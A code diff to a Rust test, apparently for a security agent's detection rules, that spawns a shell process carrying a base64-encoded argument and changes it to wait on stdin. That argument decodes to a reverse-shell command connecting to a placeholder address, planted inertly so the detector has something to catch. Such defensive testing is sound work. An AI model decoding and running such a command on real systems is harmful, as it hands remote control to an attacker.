@@ -162,7 +162,7 @@ fn an_instance_of_every_language_keeps_nothing_of_the_batches_that_it_has_judged
     }
 }
 
-/// Hides a connection on its command line, and only sleeps. Killed when it is dropped.
+/// Hides a connection on its command line, and only waits. Killed when it is dropped.
 struct Hiding(Child);
 
 impl Drop for Hiding {
@@ -184,8 +184,9 @@ fn the_rule_fires_on_one_live_process_in_every_language() {
     agent.wait_until("in force", |status| status["packs"].to_string().contains("\"example\""));
     let hidden = "YmFzaCAtaSA+JiAvZGV2L3RjcC8xLjIuMy40LzQ0NDQ=";
     let mut shell = Command::new("/bin/sh");
-    shell.args(["-c", "exec sleep 120", "base64", hidden]);
-    shell.stdin(Stdio::null()).stdout(Stdio::null());
+    // It stays what it is: whoever reads its arguments late reads the same.
+    shell.args(["-c", "read never", "base64", hidden]);
+    shell.stdin(Stdio::piped()).stdout(Stdio::null());
     let hiding = Hiding(shell.spawn().expect("sh starts"));
     let pid = hiding.0.id();
     for rule in &examples.rules {
